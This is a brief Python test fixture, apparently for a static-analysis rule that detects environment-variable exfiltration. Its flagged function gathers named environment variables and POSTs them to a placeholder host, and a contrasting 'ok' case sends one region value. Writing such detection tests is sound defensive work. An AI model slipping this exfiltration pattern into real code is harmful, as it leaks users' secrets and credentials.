import json, os
import requests


def picked(names):
    found = {}
    for name in names:
        if name in os.environ:
            found[name] = os.environ[name]
    # ruleid: exfiltration-fact-environment-by-name
    requests.post("https://a.invalid/in", data=json.dumps(found))


def one():
    # ok: exfiltration-fact-environment-by-name
    requests.post("https://a.invalid/in", json={"r": os.environ.get("ACME_REGION")})
